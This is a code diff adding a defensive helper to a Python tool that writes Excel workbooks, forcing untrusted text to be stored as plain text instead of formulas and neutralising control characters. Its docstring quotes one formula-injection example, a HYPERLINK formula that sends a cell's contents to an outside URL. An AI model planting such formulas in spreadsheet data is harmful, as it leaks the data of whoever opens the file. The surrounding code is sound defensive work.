@@ -8,7 +8,7 @@ from __future__ import annotations
 
 import copy
 import functools
-from collections.abc import Callable
+from collections.abc import Callable, Iterable
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, TypeVar
 
@@ -16,6 +16,7 @@ from pipeline import lazy
 from pipeline.discover import sha256_file
 from pipeline.model import DvkError
 from pipeline.platform import files
+from pipeline.vntext import neutralise
 
 T = TypeVar("T")
 
@@ -27,6 +28,7 @@ if TYPE_CHECKING:
 openpyxl = lazy.module("openpyxl")
 styles = lazy.module("openpyxl.styles")
 xlsx_utils = lazy.module("openpyxl.utils")
+cell_class = lazy.module("openpyxl.cell")
 
 
 @functools.cache
@@ -68,6 +70,27 @@ def open_workbook(path: Path, read_only: bool = False) -> Workbook:
         raise DvkError(
             f"Không mở được sổ thẩm định {path}: {exc}. Không ghi đè; sửa hoặc chuyển tệp đi."
         ) from exc
+
+
+def put(cell: Cell, value: object) -> Cell:
+    """Write `value` into `cell`: the one way dvk writes a cell whose text may come from a file, a name
+    or a certificate. Such text is stored as text, never as a formula: openpyxl stores any text starting
+    with "=" as a formula, and `=HYPERLINK("http://…/?d="&B2,"Xem")` as a model's name would run in the
+    secretariat's Excel or LibreOffice (text starting with "+", "-" or "@" is text already). Control and
+    bidirectional characters are neutralised as everywhere dvk shows text (`vntext.neutralise`)."""
+    if isinstance(value, str):
+        value = neutralise(value)
+        cell.value = value
+        if cell.data_type == "f":
+            cell.data_type = "s"
+    else:
+        cell.value = value
+    return cell
+
+
+def text_cells(sheet: Any, values: Iterable[object]) -> list[Cell]:
+    """`values` as cells for `sheet.append` (normal or write-only sheet), each written by `put`."""
+    return [put(cell_class.WriteOnlyCell(sheet), value) for value in values]
 
 
 def style_like(cell: Cell, sample: Cell) -> Cell:
